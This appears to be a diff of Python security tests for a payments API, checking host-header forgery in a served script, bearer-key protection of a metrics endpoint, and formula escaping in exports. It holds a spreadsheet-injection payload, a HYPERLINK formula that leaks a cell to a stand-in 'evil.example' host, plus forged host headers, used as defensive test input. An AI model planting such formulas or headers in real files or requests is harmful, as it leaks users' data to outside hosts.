@@ -26,8 +26,11 @@ FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
 
 def test_a_forged_host_is_not_written_into_the_button_script(server: Server) -> None:
     port = server.url.rsplit(":", 1)[1]
-    for headers in ({"host": "evil.example"}, {"host": f"evil.example:{port}"},
-                    {"x-forwarded-host": "evil.example"}):  # fmt: skip
+    for headers in (
+        {"host": "evil.example"},
+        {"host": f"evil.example:{port}"},
+        {"x-forwarded-host": "evil.example"},
+    ):
         script = httpx.get(f"{server.url}/pay/button.js", headers=headers, timeout=10)
         assert script.status_code == 200
         assert "evil.example" not in script.text
@@ -37,11 +40,15 @@ def test_a_forged_host_is_not_written_into_the_button_script(server: Server) -> 
 def test_metrics_answer_only_an_operators_key(server: Server) -> None:
     anonymous = httpx.get(f"{server.url}/metrics", timeout=10)
     assert anonymous.status_code == 401 and "centime_http" not in anonymous.text
-    bogus = httpx.get(f"{server.url}/metrics", timeout=10,
-                      headers={"authorization": "Bearer ck_key_nope_nope"})  # fmt: skip
+    bogus = httpx.get(
+        f"{server.url}/metrics", timeout=10, headers={"authorization": "Bearer ck_key_nope_nope"}
+    )
     assert bogus.status_code == 401
-    scraped = httpx.get(f"{server.url}/metrics", timeout=10,
-                        headers={"authorization": f"Bearer {server.operator_key}"})  # fmt: skip
+    scraped = httpx.get(
+        f"{server.url}/metrics",
+        timeout=10,
+        headers={"authorization": f"Bearer {server.operator_key}"},
+    )
     assert scraped.status_code == 200 and "centime_http_requests_total" in scraped.text
 
 
@@ -53,10 +60,18 @@ def test_a_formula_in_the_device_header_is_exported_as_text(api: Api) -> None:
     assert ada_id is not None
     fund(api.platform, ada_id, "USD", 10_000)
     api.platform.screen = ScriptedScreen(lambda e: decision(Action.REVIEW, "new_device"))
-    body = {"customer_id": ada.id, "merchant_id": shop.id,
-            "amount": {"value": "900", "asset": "USD", "scale": 6}}  # fmt: skip
-    held = api.http.post("/v1/payments", json=body, headers=api.headers(
-        api.key(Scope.ADMIN), **{"centime-device": FORMULA, "Idempotency-Key": "f1"}))
+    body = {
+        "customer_id": ada.id,
+        "merchant_id": shop.id,
+        "amount": {"value": "900", "asset": "USD", "scale": 6},
+    }
+    held = api.http.post(
+        "/v1/payments",
+        json=body,
+        headers=api.headers(
+            api.key(Scope.ADMIN), **{"centime-device": FORMULA, "Idempotency-Key": "f1"}
+        ),
+    )
     assert held.status_code == 202, held.text
     case_id = parse_id("case", held.json()["case_id"])
     assert case_id is not None
